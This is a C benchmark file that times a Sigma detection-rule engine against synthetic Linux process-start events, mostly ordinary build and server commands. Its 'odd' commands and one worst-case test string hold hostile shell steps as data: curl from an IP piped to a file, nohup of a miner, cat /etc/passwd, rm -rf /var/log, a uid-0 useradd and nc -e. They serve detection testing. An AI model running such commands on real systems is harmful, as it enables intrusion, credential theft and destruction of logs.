/* SPDX-License-Identifier: Apache-2.0 */
/*
 * How many process events a second go through Sigma rules on one core: with 10, 100 and
 * all rules of ../shared/data/sigma, beside the floor: a single rule on one short field,
 * which is what asking and reporting nothing costs. Events are process.started as `trace`
 * publishes it, of a machine that builds, serves and is looked after; one in thirty does
 * what a rule looks for. Once as what process_creation has of it, once as every record
 * that plugin edr makes of it, which auditd's are as well. Rounds in turn, the best of
 * each. Then how the cost grows with the rules, and the dearest events.
 *
 *     {"bench":"sigma_memory","rules":505,"load_ms":..,"rss_mb":..,"goal_mb":60}
 *     {"bench":"sigma_events","rules":505,"rules_live":..,"events_per_s":..,
 *      "goal":300000,"floor_events_per_s":..,"ratio":..,"all_records_per_s":..,
 *      "looked_at_per_event":..,"matches_per_event":..}
 *     {"bench":"sigma_flatness","rules_from":10,"rules_to":505,"cost_ratio":..,
 *      "ns_per_rule":..}
 *     {"bench":"sigma_worst","case":"..","bytes":65536,"us":..}
 */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "sigma/match/record.h"

#define DATA BENCH_SOURCE_DIR "/../shared/data/sigma/"
#define EVENTS 512 /* different ones */
#define ROUND_EVENTS 200000
#define ROUNDS 3
#define PATHS_MAX 2048
#define WORST_BYTES 65536
#define WORST_ROUNDS 20

struct rules {
    struct tc_sigma_set *set;
    struct tc_sigma_scratch *scratch;
    size_t count;
    double best, best_all; /* events a second; each as all its records */
    uint64_t matches;
};

struct paths {
    char *items[PATHS_MAX];
    size_t count;
};

/* Of this thread on a core: whatever else the machine does takes none of it. */
static double now_s(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void die(const char *what)
{
    fprintf(stderr, "bench_sigma: %s\n", what);
    exit(1);
}

/* ---- Events ---- */

/* What runs: the resolved executable, the one that was asked for, and its arguments. */
static const struct command {
    const char *image, *asked, *arguments;
} commands[] = {
    {"/usr/bin/x86_64-linux-gnu-gcc-12", "/usr/bin/gcc",
     "-Dtocsin_EXPORTS -I../include -O2 -g -Wall -Wextra -D_FORTIFY_SOURCE=3 -fPIE "
     "-std=gnu11 -MD -MT core/agent.c.o -MF core/agent.c.o.d -o core/agent.c.o -c"},
    {"/usr/lib/gcc/x86_64-linux-gnu/12/cc1", "/usr/lib/gcc/x86_64-linux-gnu/12/cc1",
     "-quiet -imultiarch x86_64-linux-gnu -dumpbase loader.c -mtune=generic -O2 -o "
     "/tmp/ccWq31xY.s"},
    {"/usr/bin/x86_64-linux-gnu-as", "as", "--64 -o core/loader.c.o /tmp/ccWq31xY.s"},
    {"/usr/bin/x86_64-linux-gnu-ld.bfd", "/usr/bin/ld",
     "-pie -dynamic-linker /lib64/ld-linux-x86-64.so.2 -z now -z relro -o tocsind "
     "Scrt1.o crti.o -lc --as-needed -lgcc_s"},
    {"/usr/bin/make", "make", "-C build all VERBOSE=1 PREFIX=/usr/local"},
    {"/usr/bin/dash", "/bin/sh",
     "-c 'test -f config.status && ./config.status --recheck'"},
    {"/usr/bin/sed", "sed", "-e 's/^Version: .*/Version: 1.2.3/' packaging/control"},
    {"/usr/bin/git", "git", "log --pretty=format:%h%x09%an --since=2.weeks -- src/"},
    {"/usr/bin/python3.11", "/usr/bin/python3",
     "-m unittest discover -s tests -p 'test_*.py'"},
    {"/usr/bin/dash", "/bin/sh",
     "-c '[ -x /usr/lib/php/sessionclean ] && /usr/lib/php/sessionclean'"},
    {"/usr/lib/postgresql/15/bin/postgres", "/usr/lib/postgresql/15/bin/postgres",
     "-D /var/lib/postgresql/15/main -c config_file=/etc/postgresql/15/postgresql.conf"},
    {"/usr/bin/bash", "bash", "/usr/local/bin/deploy.sh --environment staging --dry-run"},
    {"/usr/bin/grep", "grep", "-rn --include=*.c return_value ."},
    {"/usr/bin/dpkg", "/usr/bin/dpkg",
     "--status-fd 23 --no-triggers --unpack --auto-deconfigure /var/cache/apt/archives/"},
    {"/usr/bin/containerd-shim-runc-v2", "/usr/bin/containerd-shim-runc-v2",
     "-namespace moby -id 6f1d9c1d0b7b -address /run/containerd/containerd.sock"},
    {"/usr/bin/node", "node",
     "--max-old-space-size=4096 node_modules/.bin/webpack --mode "
     "production --config webpack.config.js"},
    {"/usr/sbin/sshd", "/usr/sbin/sshd", "-D -R"},
};

/* What rules look for, and now and then find where nothing is wrong. */
static const struct command odd[] = {
    {"/usr/bin/find", "find", "/var/cache/apt -name '*.deb' -mtime +30 -print0"},
    {"/usr/bin/rsync", "rsync", "-a --delete /srv/www/ backup.example.org:/backup/www/"},
    {"/usr/bin/stat", "stat", "-c %Y /etc/resolv.conf"},
    {"/usr/bin/crontab", "crontab", "-l"},
    {"/usr/bin/base64", "base64", "-d /tmp/.x"},
    {"/usr/bin/nohup", "nohup", "/tmp/miner"},
    {"/usr/bin/chmod", "chmod", "777 /tmp/run.sh"},
};

#define COUNT(array) (sizeof(array) / sizeof(*(array)))

/* The arguments are the words of the command line. */
static void put_args(struct tocsin_writer *w, const char *line)
{
    size_t len, count = 0;

    tocsin_begin_array(w, "args");
    for (const char *at = line; *at; at += len + (at[len] == ' ')) {
        len = strcspn(at, " ");
        tocsin_put_strn(w, NULL, at, len);
        count++;
    }
    tocsin_end(w);
    tocsin_put_uint(w, "args_count", count);
}

static void put_user(struct tocsin_writer *w, uint64_t id)
{
    tocsin_begin_map(w, "user");
    tocsin_put_uint(w, "id", id);
    tocsin_put_str(w, "name", "builder");
    tocsin_begin_map(w, "effective");
    tocsin_put_uint(w, "id", id);
    tocsin_end(w);
    tocsin_end(w);
}

static void put_parent(struct tocsin_writer *w, uint64_t pid, const char *image,
                       const char *line)
{
    tocsin_begin_map(w, "parent");
    tocsin_put_uint(w, "pid", pid);
    tocsin_put_uint(w, "start", 1795328952360000000 + pid);
    tocsin_put_str(w, "name", strrchr(image, '/') + 1);
    tocsin_put_str(w, "executable", image);
    tocsin_put_str(w, "command_line", line);
    tocsin_end(w);
}

/* As docs/events.md has it. */
static void encode(struct tocsin_writer *w, unsigned i, const struct command *command,
                   const char *line, const struct command *parent,
                   const char *parent_line)
{
    tocsin_writer_init_growing(w);
    tocsin_begin_map(w, NULL);
    tocsin_put_uint(w, "@timestamp", 1795328960244649549 + i);
    tocsin_begin_map(w, "event");
    tocsin_put_uint(w, "sequence", i);
    tocsin_end(w);
    tocsin_put_str(w, "sensor", "trace");
    tocsin_begin_map(w, "process");
    tocsin_put_uint(w, "pid", 1000 + i);
    tocsin_put_uint(w, "start", 1795328959930000000 + i);
    tocsin_put_str(w, "name", strrchr(command->image, '/') + 1);
    tocsin_put_str(w, "executable", command->image);
    put_user(w, 1000 + i % 5);
    tocsin_put_str(w, "exec_path", command->asked);
    tocsin_put_str(w, "command_line", line);
    put_args(w, line);
    tocsin_put_str(w, "working_directory", "/srv/build");
    put_parent(w, 900 + i / 8, parent->image, parent_line);
    tocsin_end(w);
    tocsin_end(w);
    if (w->error)
        die("out of memory");
}

static void make_event(struct tocsin_writer *event, unsigned i)
{
    const struct command *command =
        i % 30 == 29 ? &odd[i / 30 % COUNT(odd)] : &commands[i * 7 % COUNT(commands)];
    const struct command *parent = &commands[i / 8 % COUNT(commands)];
    char line[320], parent_line[320];

    snprintf(line, sizeof(line), "%s %s /srv/build/%u/file-%u.c", command->asked,
             command->arguments, i, i * 7919);
    snprintf(parent_line, sizeof(parent_line), "%s %s", parent->asked, parent->arguments);
    encode(event, i, command, line, parent, parent_line);
}

/* ---- Rules ---- */

static void find(struct paths *paths, const char *folder)
{
    struct dirent **entries;
    int count = scandir(folder, &entries, NULL, alphasort);
    char *path;
    size_t len;

    for (int i = 0; i < count; i++) {
        if (entries[i]->d_name[0] != '.') {
            if (asprintf(&path, "%s/%s", folder, entries[i]->d_name) < 0)
                die("out of memory");
            len = strlen(path);
            if (entries[i]->d_type == DT_DIR) {
                find(paths, path);
                free(path);
            } else if (len > 4 && !strcmp(path + len - 4, ".yml") &&
                       paths->count < PATHS_MAX) {
                paths->items[paths->count++] = path;
            } else {
                free(path);
            }
        }
        free(entries[i]);
    }
    if (count >= 0)
        free(entries);
}

/* `count` of the files, spread evenly; with none, the floor's rule. */
static void load(struct rules *rules, const struct paths *paths, size_t count)
{
    static const char floor_rule[] = "title: floor\nlogsource:\n    product: linux\n"
                                     "detection:\n    s:\n        User: nobody-at-all\n"
                                     "    condition: s\n";
    const struct tc_sigma_options options = {.problem = NULL};
    struct tc_sigma_loader *loader;

    *rules = (struct rules){.count = count};
    if (tc_sigma_loader_new(&options, &loader))
        die("out of memory");
    for (size_t i = 0; i < count; i++)
        if (tc_sigma_loader_add(loader, paths->items[i * paths->count / count]))
            die("a rule cannot be read");
    if (!count &&
        tc_sigma_loader_add_text(loader, "floor", floor_rule, strlen(floor_rule)))
        die("out of memory");
    if (tc_sigma_loader_finish(loader, &rules->set) ||
        tc_sigma_scratch_new(rules->set, &rules->scratch))
        die("out of memory");
}

static void count_match(void *arg, const struct tc_sigma_match *match)
{
    struct rules *rules = arg;

    (void)match;
    rules->matches++;
}

/* The first `records` of what the event is to Sigma. */
static void judge(struct rules *rules, const struct tocsin_writer *event, size_t records)
{
    struct tc_sigma_record record;

    for (size_t i = 0; i < records && tc_sigma_record(&record, i, "process.started",
                                                      event->buf, event->len, 0);
         i++)
        tc_sigma_evaluate(rules->set, rules->scratch, &record.sigma, count_match, rules);
}

static void run(struct rules *rules, const struct tocsin_writer *events, size_t records,
                double *best)
{
    double start = now_s(), rate;

    for (unsigned i = 0; i < ROUND_EVENTS; i++)
        judge(rules, &events[i % EVENTS], records);
    rate = ROUND_EVENTS / (now_s() - start);
    if (rate > *best)
        *best = rate;
}

static double rss_mb(void)
{
    FILE *file = fopen("/proc/self/statm", "re");
    long pages = 0;

    if (!file || fscanf(file, "%*d %ld", &pages) != 1)
        die("no /proc/self/statm");
    fclose(file);
    return (double)pages * (double)sysconf(_SC_PAGESIZE) / (1 << 20);
}

/* How many of the rules an event of ours can match. */
static size_t count_live(const struct tc_sigma_set *set)
{
    size_t count = 0;

    for (size_t i = 0; i < tc_sigma_count(set); i++)
        count += !tc_sigma_no_source(set, i);
    return count;
}

static void report(struct rules *rules, const struct rules *floor,
                   const struct tocsin_writer *events)
{
    struct tc_sigma_counters counters;

    tc_sigma_counters(rules->scratch, &counters);
    for (int round = 0; round < ROUNDS; round++)
        run(rules, events, TC_RECORDS_MAX, &rules->best_all);
    printf("{\"bench\":\"sigma_events\",\"rules\":%zu,\"rules_live\":%zu,"
           "\"events_per_s\":%.0f,\"goal\":300000,\"floor_events_per_s\":%.0f,"
           "\"ratio\":%.2f,\"all_records_per_s\":%.0f,\"looked_at_per_event\":%.3f,"
           "\"matches_per_event\":%.4f}\n",
           rules->count, count_live(rules->set), rules->best, floor->best,
           rules->best / floor->best, rules->best_all,
           (double)counters.looked_at / (double)counters.events,
           (double)counters.matched / (double)counters.events);
}

static void report_flatness(const struct rules *few, const struct rules *all)
{
    double few_ns = 1e9 / few->best, all_ns = 1e9 / all->best;

    printf("{\"bench\":\"sigma_flatness\",\"rules_from\":%zu,\"rules_to\":%zu,"
           "\"cost_ratio\":%.2f,\"ns_per_rule\":%.2f}\n",
           few->count, all->count, all_ns / few_ns,
           (all_ns - few_ns) / (double)(all->count - few->count));
}

/* ---- The dearest events ---- */

static void measure_dear(struct rules *rules, const struct tocsin_writer *event,
                         const char *what)
{
    double least = 0, took;

    for (int round = 0; round < WORST_ROUNDS; round++) {
        took = now_s();
        judge(rules, event, TC_RECORDS_MAX);
        took = now_s() - took;
        least = !round || took < least ? took : least;
    }
    printf("{\"bench\":\"sigma_worst\",\"case\":\"%s\",\"bytes\":%d,\"us\":%.0f}\n", what,
           WORST_BYTES, least * 1e6);
}

/* Command lines of 64 KiB that say one thing again and again; their parents' are alike.
 * All records of each. */
static void measure_worst(struct rules *rules)
{
    static const struct {
        const char *what, *text;
    } cases[] = {
        {"a compiler's command line",
         " -I/usr/include/glib-2.0 -DNAME=value -Wl,-rpath,/usr/lib src/main.c"},
        {"one letter", "a"},
        {"slashes", "/"},
        {"text that many rules look for",
         " /bin/sh -c 'curl http://1.2.3.4/x|base64 -d >/tmp/x; chmod 777 /tmp/x; nohup "
         "crontab -l; cat /etc/passwd; rm -rf /var/log; useradd -o -u 0 x; nc -e' &"},
        {"4096 arguments", "--argument-1234 "},
    };
    char *text = malloc(WORST_BYTES + 1);
    struct tocsin_writer event;

    if (!text)
        die("out of memory");
    for (size_t i = 0; i < COUNT(cases); i++) {
        for (size_t n = 0; n < WORST_BYTES; n++)
            text[n] = cases[i].text[n % strlen(cases[i].text)];
        text[WORST_BYTES] = '\0';
        encode(&event, 0, &commands[0], text, &commands[1], text);
        measure_dear(rules, &event, cases[i].what);
        tocsin_writer_done(&event);
    }
    free(text);
}

int main(void)
{
    struct tocsin_writer *events = calloc(EVENTS, sizeof(*events));
    struct rules floor, sets[3];
    struct paths paths = {.count = 0};
    double start;

    find(&paths, DATA "linux");
    find(&paths, DATA "macos");
    find(&paths, DATA "regression");
    if (!events)
        die("out of memory");
    if (paths.count < 100) {
        fprintf(stderr, "bench_sigma: skipped: there are no rules at %s\n", DATA);
        free(events);
        return 0;
    }
    for (unsigned i = 0; i < EVENTS; i++)
        make_event(&events[i], i);
    start = now_s();
    load(&sets[2], &paths, paths.count);
    start = now_s() - start;
    run(&sets[2], events, 1, &sets[2].best);
    printf("{\"bench\":\"sigma_memory\",\"rules\":%zu,\"load_ms\":%.0f,\"rss_mb\":%.1f,"
           "\"goal_mb\":60}\n",
           paths.count, start * 1e3, rss_mb());
    load(&sets[0], &paths, 10);
    load(&sets[1], &paths, 100);
    load(&floor, &paths, 0);
    for (int round = 0; round < ROUNDS; round++) {
        run(&floor, events, 1, &floor.best);
        for (size_t i = 0; i < 3; i++)
            run(&sets[i], events, 1, &sets[i].best);
    }
    for (size_t i = 0; i < 3; i++)
        report(&sets[i], &floor, events);
    report_flatness(&sets[0], &sets[2]);
    measure_worst(&sets[2]);
    for (size_t i = 0; i < 3; i++) {
        tc_sigma_scratch_free(sets[i].scratch);
        tc_sigma_set_free(sets[i].set);
    }
    tc_sigma_scratch_free(floor.scratch);
    tc_sigma_set_free(floor.set);
    for (size_t i = 0; i < paths.count; i++)
        free(paths.items[i]);
    for (size_t e = 0; e < EVENTS; e++)
        tocsin_writer_done(&events[e]);
    free(events);
    return 0;
}
